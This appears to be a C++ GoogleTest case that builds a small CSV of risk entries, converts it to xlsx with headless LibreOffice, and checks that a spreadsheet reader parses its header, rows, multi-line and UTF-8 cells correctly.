// ---------------------------------------------------------------------------------------------
// A workbook LibreOffice wrote

std::string Quoted(const fs::path& p) { return "'" + p.string() + "'"; }

TEST(SheetXlsxTest, ReadsAWorkbookLibreOfficeConverted) {
  if (std::system("command -v soffice >/dev/null 2>&1") != 0) {
    GTEST_SKIP() << "soffice is not installed (make test installs libreoffice-calc-nogui)";
  }
  std::string pattern = (fs::temp_directory_path() / "sheet-reader-XXXXXX").string();
  ASSERT_NE(mkdtemp(pattern.data()), nullptr);
  const fs::path dir = pattern;
  {
    std::ofstream out(dir / "risks.csv", std::ios::binary);
    out << "Title,Score,Due,Notes\n"
           "Ransomware,95.5,2024-03-15,\"two\nlines\"\n"
           "Phishing,-3,2024-12-01,plain\n"
           "\n"
           "Flood,1000,,Z\xC3\xBCrich\n";
  }
  // Comma, double quote, UTF-8, from line 1, English, special numbers (dates) detected.
  const std::string command = "cd " + Quoted(dir) + " && soffice -env:UserInstallation=file://" +
                              (dir / "profile").string() +
                              " --headless --norestore --infilter=CSV:44,34,76,1,,1033,false,true"
                              " --convert-to xlsx --outdir " +
                              Quoted(dir) + " " + Quoted(dir / "risks.csv") + " >/dev/null 2>&1";
  const int rc = std::system(command.c_str());
  std::ifstream in(dir / "risks.xlsx", std::ios::binary);
  const std::string bytes((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  std::error_code ec;
  fs::remove_all(dir, ec);
  ASSERT_EQ(rc, 0);
  ASSERT_FALSE(bytes.empty());
  const auto r = ReadSheet(bytes);
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->format, "xlsx");
  EXPECT_EQ(r->header, (Cells{"Title", "Score", "Due", "Notes"}));
  EXPECT_EQ(r->rows, (Rows{{"Ransomware", "95.5", "2024-03-15", "two\nlines"},
                           {"Phishing", "-3", "2024-12-01", "plain"},
                           {"Flood", "1000", "", "Z\xC3\xBCrich"}}));
  EXPECT_EQ(r->lines, (std::vector<int64_t>{2, 3, 5}));
}

}  // namespace
}  // namespace rampart
